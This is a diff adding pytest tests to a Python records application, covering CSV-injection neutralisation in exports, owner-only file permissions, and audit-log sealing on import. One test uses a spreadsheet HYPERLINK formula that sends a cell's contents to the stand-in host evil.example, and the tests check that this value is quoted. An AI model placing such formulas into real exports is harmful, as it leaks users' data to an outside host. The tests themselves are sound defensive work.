@@ -110,3 +110,47 @@ def test_a_failure_half_way_rolls_back_every_row(demo: Demo,
     assert _count(demo) == 5  # the first client is gone too
     assert len(demo.store.access_for_client(6)) == log_before
     assert demo.store.verify_access_log().ok
+
+
+def test_formula_cells_are_quoted_also_from_an_intake_link(demo: Demo, tmp_path: Path) -> None:
+    """Issue 13: a complaint typed through an intake link must not run in a spreadsheet."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    token = demo.store.create_intake_token(demo.therapist, 1)
+    demo.store.use_intake_token(token, {"complaint": evil})
+    export_csv(demo.store, demo.therapist, tmp_path / "out")
+    with (tmp_path / "out" / "sessions.csv").open(encoding="utf-8-sig") as f:
+        cells = [c for row in csv.reader(f, delimiter=";") for c in row]
+    assert "'" + evil in cells and evil not in cells
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\t=1", " =1"])
+def test_every_formula_start_is_neutralised(text: str) -> None:
+    from knoop.fhir.csvio import neutral
+    assert neutral(text) == "'" + text
+    assert neutral("Hoofdpijn - links") == "Hoofdpijn - links"
+
+
+def test_export_files_are_readable_by_the_owner_only(demo: Demo, tmp_path: Path) -> None:
+    export_csv(demo.store, demo.therapist, tmp_path / "out")
+    assert oct((tmp_path / "out").stat().st_mode & 0o777) == "0o700"
+    for name in ("sessions", "findings", "treatments"):
+        assert oct((tmp_path / "out" / f"{name}.csv").stat().st_mode & 0o777) == "0o600"
+
+
+def test_an_import_is_sealed_with_the_instance_key_and_anchored(tmp_path: Path) -> None:
+    """Issue 13: the import's own store must seal its log rows with the instance's key."""
+    from knoop.store import Store, make_engine, upgrade
+    from knoop.store.audit import read_anchor
+
+    eng = make_engine(f"sqlite:///{tmp_path / 'k.sqlite3'}")
+    upgrade(eng)
+    st = Store(eng, audit_key=b"an instance key of at least 32 bytes!",
+               audit_anchor=tmp_path / "audit.anchor")
+    p = st.create_practice("P")
+    me = st.create_user(p.id, "a@b.nl", "therapist", "Zomer in Zeeland met de fiets").actor
+    assert import_clients(GOOD.encode(), st, me).created == 2
+    report = st.verify_access_log()
+    assert report.ok, report.problem
+    anchored = read_anchor(tmp_path / "audit.anchor")
+    assert anchored is not None and anchored[0] == report.rows
